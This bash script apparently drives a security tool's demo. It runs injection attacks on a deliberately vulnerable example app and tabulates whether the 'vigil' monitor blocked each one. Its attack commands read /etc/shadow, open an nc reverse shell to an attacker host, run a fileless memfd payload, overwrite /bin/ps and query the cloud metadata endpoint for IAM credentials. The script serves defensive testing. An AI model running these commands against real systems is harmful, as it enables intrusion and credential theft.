#!/usr/bin/env bash
# attack.sh: real attacks on examples/vulnerable-web through its holes, and
# for each the events vigil published and whether the attack was blocked.
#
#   attack.sh MODE
#
# MODE names the run in the table (alert, deny). The environment says where
# things are (make demo and make demo-docker set it, see examples/demo/):
#
#   VW_URL       the app, http://HOST:8080
#   VW_CALLBACK  HOST:PORT the attacker listens on for the reverse shell; the app must reach HOST
#   VW_ENTER     the command that runs a command inside the app's container
#                (docker exec NAME, or nsenter into its namespaces)
#   VW_NATS      the bus vigil publishes to; VW_WORKLOAD the guard's workload name
#   VIGIL        the vigil binary (for vigil tail); ATTACKER the attacker binary
#   VW_PAYLOAD   a static program to run from memory (a static busybox)
#   VW_WAIT      seconds to wait for the events of each attack (default 2.5: the /proc scan runs every 1 s)
#
# Exit code: 0 when every attack ran (blocked or not), 1 when the app or the bus could not be reached.
set -euo pipefail
mode=${1:?usage: attack.sh MODE}
: "${VW_URL:?} ${VW_CALLBACK:?} ${VW_ENTER:?} ${VW_NATS:?} ${VW_WORKLOAD:?} ${VIGIL:?} ${ATTACKER:?} ${VW_PAYLOAD:?}"
wait_s=${VW_WAIT:-2.5}

work=$(mktemp -d)
tails=()
cleanup() {
	for p in "${tails[@]}" $(cat "$work/listener.pid" 2>/dev/null); do kill "$p" 2>/dev/null || true; done
	wait 2>/dev/null || true
	rm -rf "$work"
}
trap cleanup EXIT

"$ATTACKER" wait "$VW_URL" 30
# Every event of this guard, from the start of the stream: as JSON for the
# table, as vigil tail shows it for the reader.
"$VIGIL" tail --nats "$VW_NATS" --workload "$VW_WORKLOAD" --all --json >"$work/events.json" 2>"$work/tail.err" &
tails+=($!)
"$VIGIL" tail --nats "$VW_NATS" --workload "$VW_WORKLOAD" --all >"$work/events.txt" 2>>"$work/tail.err" &
tails+=($!)
sleep "$wait_s" # the guard's own start-up events (started, the app's listener) come first

rows=()
header() {
	echo "| mode  | attack         | the attack | blocked | events (rule:action) |"
	echo "|-------|----------------|------------|---------|----------------------|"
}
# attack NAME SUCCESS-PATTERN DESCRIPTION -- COMMAND...: run COMMAND, show
# its output, the events published meanwhile, and add a row to the table.
attack() {
	local name=$1 pattern=$2 what=$3
	shift 4
	local jsonfrom txtfrom out outcome blocked rules
	jsonfrom=$(wc -l <"$work/events.json")
	txtfrom=$(wc -l <"$work/events.txt")
	echo
	echo "== $name: $what"
	echo "\$ ${show:-$*}"
	out=$("$@" 2>&1 || true)
	sed 's/^/    /' <<<"$out" | head -n 8
	sleep "$wait_s"
	echo "   events:"
	tail -n +"$((txtfrom + 1))" "$work/events.txt" | sed 's/^/    /'
	rules=$(tail -n +"$((jsonfrom + 1))" "$work/events.json" |
		sed -n 's/.*"rule":"\([^"]*\)".*"action":"\([^"]*\)".*/\1:\2/p' | sort -u | paste -sd ' ' -)
	if grep -q -- "$pattern" <<<"$out"; then
		outcome=succeeded blocked=no
	else
		outcome=failed blocked=yes
	fi
	rows+=("$(printf '| %-5s | %-14s | %-10s | %-7s | %s |' "$mode" "$name" "$outcome" "$blocked" "${rules:-none}")")
}

url=$VW_URL
attack shadow 'root:\$' "read /etc/shadow through the command injection" -- \
	"$ATTACKER" inject "$url" 'cat /etc/shadow'
attack tmp-binary 'DROPPED-RAN' "drop a binary in /tmp and run it" -- \
	"$ATTACKER" inject "$url" 'cp /bin/busybox /tmp/busybox && chmod 755 /tmp/busybox && /tmp/busybox echo DROPPED-RAN'
# The attacker listens; the shell, once connected, gets its commands and
# stays 2 s so that the /proc scan sees its socket.
reverse_shell() {
	"$ATTACKER" listen "$VW_CALLBACK" 8 $'echo SHELL-$(id -u); sleep 2; exit\n' >"$work/listener.out" 2>&1 &
	local listener=$!
	echo "$listener" >"$work/listener.pid"
	sleep 0.3
	"$ATTACKER" inject "$url" "nc ${VW_CALLBACK%:*} ${VW_CALLBACK##*:} -e /bin/sh" || true
	wait "$listener" || true
	echo "the attacker's listener:"
	cat "$work/listener.out"
}
show="$ATTACKER inject $url 'nc ${VW_CALLBACK%:*} ${VW_CALLBACK##*:} -e /bin/sh', and $ATTACKER listen $VW_CALLBACK" \
	attack reverse-shell 'SHELL-' "connect a shell back to the attacker" -- reverse_shell
attack fileless 'FILELESS-RAN' "run a payload from memory (memfd), never written to disk" -- \
	"$ATTACKER" plugin "$url" "$VW_PAYLOAD" sh -c 'echo FILELESS-RAN'
attack tamper 'TAMPERED' "replace /bin/ps with the attacker's script and run it" -- \
	"$ATTACKER" inject "$url" 'rm -f /bin/ps; printf "#!/bin/sh\necho TAMPERED\n" >/bin/ps; chmod 755 /bin/ps; /bin/ps'
# With nc: Debian's static busybox wget crashes (SIGSEGV) before it connects.
attack cloud-metadata 'HTTP/' "fetch credentials from the cloud metadata address" -- \
	"$ATTACKER" inject "$url" 'printf "GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n" | nc -w 2 169.254.169.254 80'
attack exec-intruder 'root:\$' "enter the container from outside (docker exec) and read /etc/shadow" -- \
	$VW_ENTER sh -c 'cat /etc/shadow; sleep 2'

echo
header
printf '%s\n' "${rows[@]}"
if [[ -s $work/tail.err ]]; then
	echo "vigil tail said:" >&2
	cat "$work/tail.err" >&2
fi
